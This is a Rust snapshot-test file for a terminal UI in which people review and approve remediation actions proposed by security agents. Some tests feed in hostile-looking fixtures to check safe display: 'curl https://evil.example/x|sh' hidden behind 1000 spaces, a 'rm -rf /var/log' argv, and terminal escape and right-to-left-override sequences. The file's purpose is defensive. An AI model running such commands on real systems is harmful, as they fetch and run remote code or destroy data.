//! Snapshots of every view, the diff pane and the dialogs, at 80×24 and
//! 200×50, rendered with ratatui's TestBackend.

use super::render;
use crate::domain::types::{ProposalStatus, Risk, Severity};
use crate::tui::event::Msg;
use crate::tui::keymap::Keymap;
use crate::tui::state::{Conn, State};
use crate::tui::theme::Theme;
use crate::tui::update::tests::{NOW, detail, item, loaded, queue_msg, record};
use crate::tui::update::update;
use crossterm::event::{KeyCode, KeyEvent, KeyModifiers};
use ratatui::Terminal;
use ratatui::backend::TestBackend;

fn draw(s: &State, w: u16, h: u16) -> String {
    let mut t = Terminal::new(TestBackend::new(w, h)).unwrap();
    let theme = Theme::load("dark", None, true).unwrap();
    t.draw(|f| render(f, s, &theme, &Keymap::default()))
        .unwrap();
    t.backend().to_string()
}

fn keys(s: &mut State, k: &Keymap, text: &str) {
    for c in text.chars() {
        update(
            s,
            Msg::Key(KeyEvent::new(KeyCode::Char(c), KeyModifiers::NONE)),
            k,
        );
    }
}

macro_rules! both_sizes {
    ($name:literal, $state:expr) => {
        insta::assert_snapshot!(concat!($name, "_80x24"), draw(&$state, 80, 24));
        insta::assert_snapshot!(concat!($name, "_200x50"), draw(&$state, 200, 50));
    };
}

#[test]
fn queue_and_summary() {
    let (s, _) = loaded();
    both_sizes!("summary", s);
}

#[test]
fn diff_pane() {
    let (mut s, k) = loaded();
    keys(&mut s, &k, "2");
    both_sizes!("diff", s);
    // Long lines scroll sideways; the diff says from which column.
    keys(&mut s, &k, ">");
    let wide = draw(&s, 200, 50);
    assert!(wide.contains("from col 11"), "{wide}");
    assert!(
        !wide.contains("\"Resource\": \"arn:aws:s3:::builds/*\""),
        "{wide}"
    );
    assert!(wide.contains("\": \"arn:aws:s3:::builds/*\""), "{wide}");
    keys(&mut s, &k, "<");
    assert!(draw(&s, 200, 50).contains("< > sideways"));
}

#[test]
fn evidence_context_history() {
    let (mut s, k) = loaded();
    keys(&mut s, &k, "3");
    both_sizes!("evidence", s);
    keys(&mut s, &k, "4");
    insta::assert_snapshot!("context_80x24", draw(&s, 80, 24));
}

#[test]
fn dialogs() {
    let (mut s, k) = loaded();
    keys(&mut s, &k, "a");
    insta::assert_snapshot!("confirm_arming_80x24", draw(&s, 80, 24));
    update(&mut s, Msg::Drawn(NOW), &k);
    update(&mut s, Msg::Tick(NOW + crate::tui::state::ARM_MS), &k);
    keys(&mut s, &k, "ye");
    both_sizes!("confirm", s);
    // Medium: one key once armed, the line says which.
    let (mut s, k) = loaded();
    keys(&mut s, &k, "j");
    let p2 = record(2, Risk::Medium, ProposalStatus::Pending, true);
    update(
        &mut s,
        Msg::Detail {
            alert_id: "a-2".into(),
            result: Ok(detail(2, &p2)),
        },
        &k,
    );
    keys(&mut s, &k, "a");
    update(&mut s, Msg::Drawn(NOW), &k);
    update(&mut s, Msg::Tick(NOW + crate::tui::state::ARM_MS), &k);
    insta::assert_snapshot!("confirm_medium_80x24", draw(&s, 80, 24));
    // A command waiting for its proposal, the keys typed meanwhile kept.
    let (mut s, k) = loaded();
    keys(&mut s, &k, "jjrnot ours");
    insta::assert_snapshot!("pending_80x24", draw(&s, 80, 24));
    let (mut s, k) = loaded();
    keys(&mut s, &k, "rnot ours");
    both_sizes!("reason", s);
    let (mut s, k) = loaded();
    keys(&mut s, &k, "nscheduled scan");
    update(
        &mut s,
        Msg::Key(KeyEvent::new(KeyCode::Char('f'), KeyModifiers::CONTROL)),
        &k,
    );
    both_sizes!("annotate", s);
    let (mut s, k) = loaded();
    keys(&mut s, &k, "?");
    both_sizes!("help", s);
    // At 80×24 every entry is whole, and j scrolls to the rest.
    let top = draw(&s, 80, 24);
    assert!(top.contains("j/k scroll"), "{top}");
    assert!(top.contains("next view (pending, escalated…)"), "{top}");
    keys(
        &mut s,
        &k,
        "jjjjjjjjjjjjjjjjjjjjjjjjjjjjjjjjjjjjjjjjjjjjjjj",
    );
    let bottom = draw(&s, 80, 24);
    assert!(bottom.contains("Ctrl-f"), "{bottom}");
    assert!(s.dialog.is_some(), "j scrolls, it does not close");
}

#[test]
fn offline_empty_and_too_small() {
    let (mut s, k) = loaded();
    update(&mut s, Msg::Offline("connection refused".into()), &k);
    insta::assert_snapshot!("offline_80x24", draw(&s, 80, 24));
    let mut empty = State::new("carol".into(), "SHA256:y".into(), "http://srv".into(), NOW);
    // No screen calls the queue clear before the server said so.
    let never = draw(&empty, 80, 24);
    assert!(never.contains("not connected yet"), "{never}");
    assert!(!never.contains("clear"), "{never}");
    update(&mut empty, Msg::Offline("connection refused".into()), &k);
    let down = draw(&empty, 80, 24);
    assert!(down.contains("not connected yet"), "{down}");
    assert!(!down.contains("clear"), "{down}");
    update(&mut empty, queue_msg(vec![], 0), &k);
    insta::assert_snapshot!("empty_80x24", draw(&empty, 80, 24));
    let mut refused = State::new("alcie".into(), "SHA256:y".into(), "http://srv".into(), NOW);
    update(
        &mut refused,
        Msg::LoggedIn(Err("login refused: alcie cannot sign on this server with key SHA256:y (not in its allowed_signers, or listed with another key)".into())),
        &k,
    );
    insta::assert_snapshot!("refused_80x24", draw(&refused, 80, 24));
    insta::assert_snapshot!("too_small", draw(&s, 50, 10));
}

#[test]
fn untrusted_text_is_shown_as_marks() {
    let k = Keymap::default();
    let mut s = State::new("alice".into(), "f".into(), "u".into(), NOW);
    let mut r = record(7, Risk::High, ProposalStatus::Pending, false);
    r.target = "prt\u{1b}]52;c;ZXZpbA==\u{7}\u{202e}fdp.exe".into();
    update(&mut s, queue_msg(vec![item(&r, Severity::High)], 0), &k);
    update(
        &mut s,
        Msg::Detail {
            alert_id: "a-7".into(),
            result: Ok(detail(7, &r)),
        },
        &k,
    );
    let screen = draw(&s, 200, 50);
    assert!(
        screen.contains("prt^[]52;c;ZXZpbA==^G<U+202E>fdp.exe"),
        "{screen}"
    );
    assert!(!screen.contains('\u{1b}') && !screen.contains('\u{202e}'));
}

/// Renders with colour (the other snapshots run as NO_COLOR) and returns
/// the buffer, styles included.
fn draw_coloured(s: &State, theme: &Theme, w: u16, h: u16) -> ratatui::buffer::Buffer {
    let mut t = Terminal::new(TestBackend::new(w, h)).unwrap();
    t.draw(|f| render(f, s, theme, &Keymap::default())).unwrap();
    t.backend().buffer().clone()
}

/// The style of the first cell of the first place `needle` is on screen.
fn style_at(buf: &ratatui::buffer::Buffer, needle: &str) -> ratatui::style::Style {
    let area = buf.area;
    for y in 0..area.height {
        let row: String = (0..area.width)
            .map(|x| buf[(x, y)].symbol().to_owned())
            .collect();
        if let Some(i) = row.find(needle) {
            let x = row[..i].chars().count() as u16;
            return buf[(x, y)].style();
        }
    }
    panic!("{needle:?} not on screen")
}

#[test]
fn colours_come_from_the_right_theme_slots() {
    let theme = Theme::load("dark", None, false).unwrap();
    let (mut s, k) = loaded();
    let buf = draw_coloured(&s, &theme, 80, 24);
    // Risk cells in the queue use the severity slots of their tier.
    assert_eq!(style_at(&buf, "crit").fg, theme.severity_critical.fg);
    assert_eq!(style_at(&buf, "medi").fg, theme.severity_medium.fg);
    insta::assert_debug_snapshot!("colour_summary_80x24", buf);
    // The diff pane: added lines in diff_added, removed in diff_removed.
    keys(&mut s, &k, "2");
    let buf = draw_coloured(&s, &theme, 200, 50);
    insta::assert_debug_snapshot!("colour_diff_200x50", buf);
    let added = theme.diff_added.fg.expect("dark theme colours diff_added");
    assert!(buf.content.iter().any(|c| c.fg == added));
    // A theme with other colours changes exactly those cells.
    let light = Theme::load("light", None, false).unwrap();
    assert_ne!(light.severity_critical.fg, theme.severity_critical.fg);
    let buf = draw_coloured(&s, &light, 200, 50);
    assert_eq!(style_at(&buf, "crit").fg, light.severity_critical.fg);
}

#[test]
fn the_risk_line_says_when_the_gate_raised_the_agents_label() {
    let (mut s, _) = loaded();
    let d = s.detail.current.as_mut().unwrap();
    let mut data = (**d.data.as_ref().unwrap()).clone();
    let p = &mut data.proposals[0];
    p.declared_risk = Risk::Low;
    p.risk = Risk::High;
    p.assessment = Some(crate::domain::risk::Assessment {
        expands_access: None,
        floor: Risk::High,
        findings: vec![crate::domain::risk::Finding {
            class: "broad_indicator".into(),
            detail: "blocks 0.0.0.0/0 (4294967296 addresses)".into(),
            floor: Risk::High,
        }],
        analysis: None,
    });
    d.data = Some(std::sync::Arc::new(data));
    let screen = draw(&s, 200, 50);
    assert!(
        screen.contains("HIGH — agent said low; raised: blocks 0.0.0.0/0"),
        "{screen}"
    );
}

#[test]
fn group_rows_the_group_sheet_and_the_burst_banner() {
    use crate::tui::update::tests::groups::blocks;
    let k = Keymap::default();
    let mut s = State::new("alice".into(), "SHA256:x".into(), "http://srv".into(), NOW);
    let mut items = blocks(10..35, "soar-bot", 10_000);
    // A member about another kind of entity is marked in the sheet.
    items[1].entity_kind = crate::domain::types::EntityKind::User;
    items.extend(blocks(50..52, "edr-bot", 600_000));
    items.push(item(
        &record(99, Risk::Critical, ProposalStatus::Pending, false),
        Severity::Critical,
    ));
    update(&mut s, queue_msg(items, 0), &k);
    s.session.conn = Conn::Online;
    keys(&mut s, &k, "b");
    // The sheet shows (and a group decision signs) as many members as the
    // terminal the state knows of has room for.
    s.session.size = (80, 24);
    insta::assert_snapshot!("group_sheet_80x24", draw(&s, 80, 24));
    s.session.size = (200, 50);
    insta::assert_snapshot!("group_sheet_200x50", draw(&s, 200, 50));
    keys(&mut s, &k, "r");
    insta::assert_snapshot!("group_reject_200x50", draw(&s, 200, 50));
}

#[test]
fn the_oversight_overlay() {
    let (mut s, k) = loaded();
    update(
        &mut s,
        Msg::Oversight(Ok(crate::tui::update::tests::groups::known_oversight())),
        &k,
    );
    insta::assert_snapshot!("oversight_200x50", draw(&s, 200, 50));
    // At 80×24 the judgement columns stay; the least important go first.
    let narrow = draw(&s, 80, 24);
    insta::assert_snapshot!("oversight_80x24", narrow);
    for kept in [
        "HIGH UNEXAMINED",
        "HALTED/FAILED",
        "OVERTURNED",
        "FALSE POSITIVES",
    ] {
        assert!(narrow.contains(kept), "{kept}: {narrow}");
    }
    assert!(!narrow.contains("IN GROUPS"), "{narrow}");
}

#[test]
fn history_shows_notes_labels_and_agent_reports() {
    let k = Keymap::default();
    let mut s = State::new("alice".into(), "f".into(), "u".into(), NOW);
    let r = record(7, Risk::Medium, ProposalStatus::Failed, false);
    update(&mut s, queue_msg(vec![item(&r, Severity::High)], 0), &k);
    let mut d = (*detail(7, &r)).clone();
    d.history = vec![
        crate::api::HistoryEntry {
            seq: 4,
            hash: "h".into(),
            entry: serde_json::json!({"at": "2027-01-15T08:00:00.000Z", "kind": "annotated",
                "actor": {"kind": "person", "principal": "bob"},
                "data": {"note": "scanner window moved", "labels": ["false_positive"]}}),
        },
        crate::api::HistoryEntry {
            seq: 5,
            hash: "h".into(),
            entry: serde_json::json!({"at": "2027-01-15T08:01:00.000Z", "kind": "execution_failed",
                "actor": {"kind": "agent", "name": "soar-bot"},
                "data": {"detail": "EDR API 503: sensor offline"}}),
        },
    ];
    update(
        &mut s,
        Msg::Detail {
            alert_id: "a-7".into(),
            result: Ok(std::sync::Arc::new(d)),
        },
        &k,
    );
    keys(&mut s, &k, "5");
    let screen = draw(&s, 200, 50);
    assert!(
        screen.contains("bob [false_positive]: scanner window moved"),
        "{screen}"
    );
    assert!(
        screen.contains("agent soar-bot: EDR API 503: sensor offline"),
        "{screen}"
    );
}

#[test]
fn a_long_command_shows_whole_with_its_blank_run_counted() {
    let k = Keymap::default();
    let mut s = State::new("alice".into(), "f".into(), "u".into(), NOW);
    let mut r = record(8, Risk::Critical, ProposalStatus::Pending, false);
    r.target = format!(
        "ls -la /srv/app{}; curl https://evil.example/x|sh",
        " ".repeat(1000)
    );
    update(&mut s, queue_msg(vec![item(&r, Severity::High)], 0), &k);
    let mut d = (*detail(8, &r)).clone();
    d.proposals[0].target = r.target.clone();
    update(
        &mut s,
        Msg::Detail {
            alert_id: "a-8".into(),
            result: Ok(std::sync::Arc::new(d)),
        },
        &k,
    );
    let screen = draw(&s, 200, 50);
    assert!(
        screen.contains("ls -la /srv/app␠×1000; curl https://evil.example/x|sh"),
        "{screen}"
    );
    assert!(
        screen.contains(
            "1047 characters, shown whole above (wrapped); ␠×N is a run of N blank characters"
        ),
        "{screen}"
    );
    // The queue row too: the run counted, the end of the command in sight.
    let row = screen
        .lines()
        .find(|l| l.contains("/srv/app"))
        .unwrap_or_default();
    assert!(row.contains("/srv/app␠") && row.contains("|sh"), "{row}");
}

#[test]
fn a_long_target_never_pushes_the_prompt_out_of_the_confirm_line() {
    let k = Keymap::default();
    let mut s = State::new("alice".into(), "f".into(), "u".into(), NOW);
    let mut r = record(8, Risk::Critical, ProposalStatus::Pending, false);
    r.target = format!("sh -c 'curl https://{}.example/x | sh'", "a".repeat(400));
    update(&mut s, queue_msg(vec![item(&r, Severity::High)], 0), &k);
    let mut d = (*detail(8, &r)).clone();
    d.proposals[0].target = r.target.clone();
    update(
        &mut s,
        Msg::Detail {
            alert_id: "a-8".into(),
            result: Ok(std::sync::Arc::new(d)),
        },
        &k,
    );
    keys(&mut s, &k, "a");
    update(&mut s, Msg::Drawn(NOW), &k);
    update(&mut s, Msg::Tick(NOW + crate::tui::state::ARM_MS), &k);
    for (w, h) in [(80, 24), (200, 50)] {
        let screen = draw(&s, w, h);
        assert!(screen.contains("Type yes"), "{w}×{h}: {screen}");
    }
}

#[test]
fn the_detail_names_other_open_work_on_the_same_entity() {
    use crate::tui::update::tests::{item, record};
    let (mut s, _) = loaded();
    assert!(!draw(&s, 200, 50).contains("related"));
    for (i, entity, target) in [
        (7, "WS-3", "ws-7"),
        (8, "ws\u{2010}3", "ws-8"),
        (9, "ws-9", " ws-3"),
    ] {
        let mut it = item(
            &record(i, Risk::Low, ProposalStatus::Pending, false),
            Severity::Low,
        );
        it.entity_id = entity.into();
        it.proposal.target = target.into();
        s.queue.items.insert(it.proposal.id.clone(), it);
    }
    // A decided proposal is no open work.
    let mut done = item(
        &record(10, Risk::Low, ProposalStatus::Rejected, false),
        Severity::Low,
    );
    done.entity_id = "ws-3".into();
    s.queue.items.insert(done.proposal.id.clone(), done);
    let screen = draw(&s, 200, 50);
    assert!(
        screen.contains(
            "related  2 other open alerts on ws-3 · 1 proposal of other alerts targets it"
        ),
        "{screen}"
    );
}

#[test]
fn what_runs_is_shown_argument_by_argument() {
    let k = Keymap::default();
    let mut s = State::new("alice".into(), "f".into(), "u".into(), NOW);
    let mut r = record(9, Risk::High, ProposalStatus::Pending, false);
    // A harmless target, and the argv that would really run.
    r.target = "ls".into();
    update(&mut s, queue_msg(vec![item(&r, Severity::High)], 0), &k);
    let mut d = (*detail(9, &r)).clone();
    d.proposals[0].target = r.target.clone();
    d.proposals[0].document["parameters"] =
        serde_json::json!({"argv": ["rm", "-rf", "/var/log", "\u{1b}[2Jx"]});
    update(
        &mut s,
        Msg::Detail {
            alert_id: "a-9".into(),
            result: Ok(std::sync::Arc::new(d)),
        },
        &k,
    );
    let screen = draw(&s, 200, 50);
    let runs = screen
        .lines()
        .find(|l| l.contains("runs"))
        .unwrap_or_default();
    assert!(runs.contains(r#"["rm","-rf","/var/log","#), "{screen}");
    assert!(!screen.contains('\u{1b}'), "escapes are shown as marks");
    assert!(screen.contains("Parameters"), "{screen}");
}

/// `loaded()` for a lead, with the freezes the server listed; p-1 is
/// proposed by another agent than the rest.
fn with_freezes(list: Result<Vec<crate::api::Freeze>, &str>) -> (State, Keymap) {
    let (mut s, k) = loaded();
    s.session.me.role = Some(crate::domain::types::Role::Lead);
    if let Some(i) = s.queue.items.get_mut("p-1") {
        i.proposal.proposed_by = "scanner".into();
    }
    let msg = Msg::Freezes(
        list.map(|freezes| crate::api::FreezeList { freezes })
            .map_err(str::to_owned),
    );
    update(&mut s, msg, &k);
    (s, k)
}

fn frozen(agent: &str, mode: crate::api::FreezeMode, reason: &str) -> crate::api::Freeze {
    crate::api::Freeze {
        agent: agent.into(),
        mode,
        by: "carol".into(),
        reason: reason.into(),
        since: NOW - 60_000,
        seq: 4,
    }
}

#[test]
fn a_frozen_agent_is_marked_on_its_rows_in_the_detail_and_in_the_status_bar() {
    use crate::api::FreezeMode;
    let (s, _) = with_freezes(Ok(vec![frozen(
        "bot",
        FreezeMode::Hold,
        "runaway loop\u{1b}[2J",
    )]));
    both_sizes!("frozen", s);
    let screen = draw(&s, 200, 50);
    let row = |target: &str| {
        screen
            .lines()
            .find(|l| l.contains(target) && l.contains("isolate_host"))
            .unwrap_or_default()
            .to_owned()
    };
    assert!(row("ws-3").contains("❄hold ws-3"), "{screen}");
    assert!(row("ws-2").contains("❄hold"), "{screen}");
    assert!(
        !row("ws-1").contains('❄'),
        "scanner is not frozen: {screen}"
    );
    let top = screen.lines().next().unwrap_or_default();
    assert!(top.contains("❄ FROZEN bot (hold)"), "{top}");
    assert!(
        screen.contains("bot · frozen by carol (hold): runaway loop^[[2J"),
        "the reason is untrusted text: {screen}"
    );
    assert!(!screen.contains('\u{1b}'));
    // A narrow target column (the queue beside the detail at 140) keeps
    // the mark short: the target keeps the room.
    let narrow = draw(&s, 140, 40);
    let row = narrow
        .lines()
        .find(|l| l.contains("crit pend"))
        .unwrap_or_default();
    assert!(row.contains("❄ ws-3"), "{narrow}");
    // Every agent: each row, and the status bar says whom.
    let (s, _) = with_freezes(Ok(vec![
        frozen("*", FreezeMode::NoAuto, "incident"),
        frozen("bot", FreezeMode::Hold, "runaway"),
    ]));
    let screen = draw(&s, 200, 50);
    assert!(
        screen.contains("❄ FROZEN every agent (no_auto) · bot (hold)"),
        "{screen}"
    );
    assert_eq!(screen.matches("❄hold").count(), 2, "{screen}");
    assert_eq!(screen.matches("❄no_auto").count(), 1, "{screen}");
}

#[test]
fn freezes_that_could_not_be_loaded_are_never_shown_as_none() {
    let (s, _) = with_freezes(Err("503 unavailable"));
    let screen = draw(&s, 200, 50);
    assert!(screen.contains("⚠ freezes unknown"), "{screen}");
    assert!(
        screen.contains("frozen or not cannot be told: 503 unavailable"),
        "{screen}"
    );
    assert_eq!(s.queue.rows.len(), 3, "the queue stays");
    assert!(screen.contains("ws-1"), "{screen}");
}

#[test]
fn the_freeze_dialog() {
    let (mut s, k) = with_freezes(Ok(vec![frozen(
        "bot",
        crate::api::FreezeMode::NoAuto,
        "noisy",
    )]));
    keys(&mut s, &k, "F");
    keys(&mut s, &k, "runaway loop on ws-3");
    update(
        &mut s,
        Msg::Key(KeyEvent::new(KeyCode::Tab, KeyModifiers::NONE)),
        &k,
    );
    both_sizes!("freeze_dialog", s);
    let screen = draw(&s, 80, 24);
    assert!(screen.contains("freeze bot"), "{screen}");
    assert!(
        screen.contains("frozen by carol (no_auto): noisy"),
        "{screen}"
    );
    assert!(screen.contains("Tab mode"), "{screen}");
}

mod amend;
mod extend;
mod revert;
